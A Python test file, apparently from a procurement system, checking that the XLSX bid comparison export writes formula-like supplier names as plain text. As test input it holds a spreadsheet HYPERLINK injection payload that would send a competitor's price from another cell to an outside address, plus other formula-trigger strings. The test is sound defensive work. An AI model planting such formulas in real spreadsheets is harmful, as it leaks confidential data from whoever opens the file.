"""The comparison table as XLSX (evaluation/exports.py): text that anyone typed stays text, numbers stay numbers."""

import io
import zipfile

import openpyxl
import openpyxl.xml
import pytest
from openpyxl import Workbook

from procurement.spreadsheets import FORMULA_TRIGGERS, append_row
from tests.fixtures.exports import cells, comparison_xlsx

# A provider's name that openpyxl wrote as a live formula: clicked, it sends the cell next to it (D4: a competitor's
# comparison price) to the address.
HYPERLINK = '=HYPERLINK("http://127.0.0.1:9/?p="&D4,"Avaa tarjous")'


def test_a_formula_as_a_providers_name_is_text_in_the_comparison_xlsx(authority, officer, client_for):
    data = comparison_xlsx(authority, officer, client_for, [HYPERLINK, "Beetaopisto Oy"], lot_title="@SUM(1+1)")

    found = cells(data)
    # no cell is a formula, in what openpyxl reads nor in the sheets' XML
    assert [cell.coordinate for cell in found if cell.data_type == "f"] == []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in xml or b"<f " in xml for xml in sheets)
    # the name is shown as it was typed, as text marked to stay text when edited
    names = [cell for cell in found if cell.value == HYPERLINK]
    assert len(names) == 2  # on both lots' sheets
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in names)
    titles = [cell for cell in found if isinstance(cell.value, str) and cell.value.endswith(": @SUM(1+1)")]
    assert titles and all(cell.data_type == "s" for cell in titles)
    # the numbers are still numbers: rank, comparison price, points
    for cell in found:
        if cell.row >= 3 and cell.column in (1, 4, 5, 6, 7):
            assert cell.data_type == "n" and isinstance(cell.value, int | float), cell.coordinate
    assert "Beetaopisto Oy" in [cell.value for cell in found]


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_every_text_that_a_spreadsheet_takes_for_a_formula_is_written_as_text(trigger):
    workbook = Workbook()
    sheet = workbook.active
    text = f"{trigger}1+1"

    append_row(sheet, [text, "Koulutus Oy", 12, 3.5, None, "nolla\x00tavua"])
    buffer = io.BytesIO()
    workbook.save(buffer)

    row = next(openpyxl.load_workbook(buffer).active.iter_rows())
    # openpyxl's own XML writer leaves a carriage return as is, which XML reads as a line feed; with lxml (installed
    # for the eForms notices) it is written as a character reference and read back unchanged
    shown = text if openpyxl.xml.LXML else text.replace("\r", "\n")
    assert (row[0].value, row[0].data_type, row[0].quotePrefix) == (shown, "s", True)
    assert (row[1].value, row[1].data_type, row[1].quotePrefix) == ("Koulutus Oy", "s", False)
    assert (row[2].value, row[3].value) == (12, 3.5) and row[2].data_type == row[3].data_type == "n"
    assert row[5].value == "nolla\ufffdtavua"  # a character no spreadsheet may hold, not an error of the export
